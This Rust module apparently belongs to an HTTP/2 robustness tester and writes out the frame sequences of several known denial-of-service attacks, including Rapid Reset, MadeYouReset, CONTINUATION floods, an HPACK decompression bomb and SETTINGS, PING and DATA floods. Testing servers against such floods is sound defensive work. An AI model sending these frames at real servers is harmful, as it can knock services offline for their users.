//! The frames of each kind of misuse, one after the other. In: a kind, the field block of a request. Out: bytes.

use super::AdverseKind;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST_FIELD, NONE, PING, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, field, frame, kept_field,
};

/// The code of a client that no longer wants an answer (RFC 9113 section 7).
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Length of the value that a bomb repeats: it must fit into a dynamic table of 4,096 bytes.
const BOMB_VALUE: usize = 4_000;

/// How often it repeats it in one field block.
const BOMB_REPETITIONS: usize = 16_000;

/// Credit of one byte.
const ONE: [u8; 4] = 1_u32.to_be_bytes();

/// The most credit that one frame gives.
const ALL: [u8; 4] = i32::MAX.to_be_bytes();

/// A type of frame that does not exist.
const UNKNOWN: u8 = 0xbe;

/// A flood of frames.
pub(super) struct Deed<'a> {
    kind: AdverseKind,
    request: &'a [u8],
    /// Frames, or groups of them, that have been made.
    made: u32,
}

impl<'a> Deed<'a> {
    pub(super) fn new(kind: AdverseKind, request: &'a [u8]) -> Self {
        Self {
            kind,
            request,
            made: 0,
        }
    }

    /// Opens a stream.
    pub(super) fn open(output: &mut Vec<u8>, stream: u32, request: &[u8], is_whole: bool) {
        let end = if is_whole { END_STREAM } else { NONE };
        frame(output, HEADERS, END_HEADERS | end, stream, request);
    }

    /// Appends the next frames.
    pub(super) fn next(&mut self, output: &mut Vec<u8>) {
        let is_first = self.made == 0;
        // Identifiers are used up after 2^30 streams, which no bound of ours reaches.
        let stream = 2 * self.made + 1;
        self.made += 1;
        match self.kind {
            AdverseKind::RapidReset => {
                Self::open(output, stream, self.request, true);
                frame(output, RST_STREAM, NONE, stream, &CANCEL);
            }
            AdverseKind::MadeYouReset => {
                Self::open(output, stream, self.request, false);
                // RFC 9113 section 6.9.1: a window beyond 2^31-1 is an error of its stream.
                frame(output, WINDOW_UPDATE, NONE, stream, &ALL);
            }
            AdverseKind::Continuation if is_first => {
                frame(output, HEADERS, NONE, 1, self.request);
            }
            AdverseKind::Continuation => {
                let mut block = Vec::new();
                field(&mut block, b"x", &[b'x'; 1024]);
                frame(output, CONTINUATION, NONE, 1, &block);
            }
            AdverseKind::Settings => frame(output, SETTINGS, NONE, 0, &[]),
            AdverseKind::Ping => frame(output, PING, NONE, 0, &[0; 8]),
            AdverseKind::HpackBomb => {
                let mut block = self.request.to_vec();
                if is_first {
                    kept_field(&mut block, b"bomb", &[b'x'; BOMB_VALUE]);
                } else {
                    block.resize(block.len() + BOMB_REPETITIONS, NEWEST_FIELD);
                }
                Self::open(output, stream, &block, true);
            }
            AdverseKind::EmptyData | AdverseKind::TinyData => {
                if is_first {
                    Self::open(output, 1, self.request, false);
                }
                let content = match self.kind {
                    AdverseKind::TinyData => &[0][..],
                    _ => &[],
                };
                frame(output, DATA, NONE, 1, content);
            }
            AdverseKind::WindowUpdate => frame(output, WINDOW_UPDATE, NONE, 0, &ONE),
            AdverseKind::UnknownFrames => frame(output, UNKNOWN, NONE, 0, &[0; 8]),
            // These hold their streams instead.
            AdverseKind::ZeroWindow
            | AdverseKind::SlowReader
            | AdverseKind::SlowWriter
            | AdverseKind::OpenWindows => {}
        }
    }
}
